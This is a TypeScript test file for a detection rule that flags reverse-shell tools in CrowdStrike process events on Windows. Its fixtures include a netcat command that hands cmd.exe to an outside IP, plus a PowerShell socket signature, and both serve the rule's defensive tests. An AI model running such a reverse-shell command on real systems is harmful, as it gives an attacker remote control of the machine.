import { RuleTest } from "@pypanther/core";
import { CrowdstrikeReverseShellToolExecuted } from "../src/crowdstrike-reverse-shell-tool-executed";

const started = {
  p_log_type: "Crowdstrike.FDREvent",
  fdr_event_type: "ProcessRollup2",
  event_simpleName: "ProcessRollup2",
  event_platform: "Win",
  aid: "5b1e9c0a7d2f4e86",
  ComputerName: "LT-0417",
  event: {
    event_simpleName: "ProcessRollup2",
    event_platform: "Win",
    aid: "5b1e9c0a7d2f4e86",
    ImageFileName: "\\Device\\HarddiskVolume3\\Tools\\nc.exe",
    CommandLine: "nc.exe 203.0.113.5 4444 -e cmd.exe",
    ParentBaseFileName: "explorer.exe",
  },
};
const running = (ImageFileName: string, CommandLine = started.event.CommandLine) => ({
  ...started,
  event: { ...started.event, ImageFileName, CommandLine },
});

export const tests = [
  new RuleTest({
    name: "netcat hands out a shell",
    expectedResult: true,
    log: started,
    expectedTitle: "[nc.exe] ran like a reverse shell on [LT-0417]",
  }),
  new RuleTest({
    name: "netcat without a shell",
    expectedResult: false,
    log: running(started.event.ImageFileName, "nc.exe -l 9000"),
  }),
  new RuleTest({
    name: "PowerShell opens a socket",
    expectedResult: true,
    log: running("\\Device\\HarddiskVolume3\\powershell.exe", "powershell New-Object System.Net.Sockets.TcpClient"),
  }),
  new RuleTest({
    name: "the case of the signature counts",
    expectedResult: false,
    log: running("\\Device\\HarddiskVolume3\\powershell.exe", "powershell new-object system.net.sockets.tcpclient"),
  }),
  new RuleTest({
    name: "a program named like a member of every object",
    expectedResult: false,
    log: running("\\Device\\HarddiskVolume3\\constructor"),
  }),
  new RuleTest({ name: "not on Windows", expectedResult: false, log: { ...started, event_platform: "Lin" } }),
];

export { CrowdstrikeReverseShellToolExecuted as rule };
